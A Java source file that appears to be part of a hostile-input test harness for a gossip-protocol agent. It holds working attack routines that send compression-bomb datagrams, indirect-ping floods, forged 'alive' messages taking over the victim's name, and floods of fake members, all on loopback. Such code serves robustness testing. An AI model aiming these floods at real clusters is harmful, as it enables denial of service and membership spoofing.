package serf.hostile;

import java.io.IOException;
import java.net.DatagramPacket;
import java.net.DatagramSocket;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.locks.LockSupport;

/**
 * Attacks on the gossip UDP port: one socket sends datagrams, paced a little (a datagram every
 * {@link #PACE_NANOS}) so that the flood reaches the agent rather than overflowing its socket buffer.
 */
final class GossipPacketAttacks {
    /** A compound holds at most 127 parts (docs/protocol/memberlist-wire.md §6, trap 1). */
    static final int MAX_PARTS = 127;
    private static final long PACE_NANOS = 2_000_000;

    private GossipPacketAttacks() {
    }

    /** {@code packets} datagrams of each bomb in turn, each datagram one compress message (9). */
    static String compressedBombs(InetSocketAddress to, int packets, Bombs.Bomb... bombs) throws IOException {
        List<byte[]> datagrams = new ArrayList<>();
        for (int i = 0; i < packets; i++) {
            for (Bombs.Bomb b : bombs) {
                datagrams.add(GossipMessages.compress(b.lzw()));
            }
        }
        send(to, datagrams);
        return packets + " datagrams each of " + List.of(bombs);
    }

    /**
     * {@code packets} compounds of {@value #MAX_PARTS} indirect pings (1), each asking the agent to
     * ping (and nack back) a node at 127.0.0.1:{@code deadPort}, an address the attacker chose.
     */
    static String indirectPingFlood(InetSocketAddress to, int packets, int deadPort) throws IOException {
        List<byte[]> datagrams = new ArrayList<>();
        long seq = 0;
        for (int p = 0; p < packets; p++) {
            List<byte[]> parts = new ArrayList<>();
            for (int i = 0; i < MAX_PARTS; i++, seq++) {
                parts.add(GossipMessages.indirectPing(seq, "ghost-" + seq, GossipMessages.LOOPBACK, deadPort,
                        "hostile", deadPort));
            }
            datagrams.add(GossipMessages.compound(parts));
        }
        send(to, datagrams);
        return seq + " indirect pings to 127.0.0.1:" + deadPort + " in " + packets + " compounds";
    }

    /**
     * {@code count} alive messages (4) carrying the agent's own name with other addresses (each a
     * name conflict), {@code perPacket} to a compound.
     */
    static String forgedAliveFlood(InetSocketAddress to, String victimName, int count, int perPacket) throws IOException {
        List<byte[]> datagrams = new ArrayList<>();
        List<byte[]> parts = new ArrayList<>();
        for (int i = 0; i < count; i++) {
            byte[] addr = {127, (byte) (1 + i / 250 % 250), (byte) (i % 250), 2};
            parts.add(GossipMessages.alive(victimName, addr, 20000 + i % 10000, 1 + i));
            if (parts.size() == perPacket || i == count - 1) {
                datagrams.add(GossipMessages.compound(parts));
                parts = new ArrayList<>();
            }
        }
        send(to, datagrams);
        return count + " forged alives for '" + victimName + "' in " + datagrams.size() + " compounds";
    }

    /**
     * Alives for {@code count} members that do not exist (distinct names, addresses nobody answers
     * on): every one becomes a member the agent probes, suspects and keeps as failed.
     */
    static String fakeMemberFlood(InetSocketAddress to, int count, int perPacket) throws IOException {
        List<byte[]> datagrams = new ArrayList<>();
        List<byte[]> parts = new ArrayList<>();
        for (int i = 0; i < count; i++) {
            byte[] addr = {127, (byte) (1 + i / 250 % 250), (byte) (i % 250), 3};
            parts.add(GossipMessages.alive("fake-member-" + (i + Integer.getInteger("hostile.fakeOffset", 0)), addr, 20000 + i % 10000, 1));
            if (parts.size() == perPacket || i == count - 1) {
                datagrams.add(GossipMessages.compound(parts));
                parts = new ArrayList<>();
            }
        }
        // In rounds of 2,000 a second apart, slow enough that the agent takes most of them in (a burst
        // would mostly be dropped at its handoff queue) and its member bound is what holds.
        for (int from = 0; from < datagrams.size(); from += 2000 / perPacket) {
            send(to, datagrams.subList(from, Math.min(datagrams.size(), from + 2000 / perPacket)));
            LockSupport.parkNanos(1_000_000_000L);
        }
        return count + " alives of members that do not exist in " + datagrams.size() + " compounds, 2,000 a second";
    }

    private static void send(InetSocketAddress to, List<byte[]> datagrams) throws IOException {
        try (DatagramSocket socket = new DatagramSocket(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0))) {
            for (byte[] d : datagrams) {
                socket.send(new DatagramPacket(d, d.length, to));
                LockSupport.parkNanos(PACE_NANOS);
            }
        }
    }
}
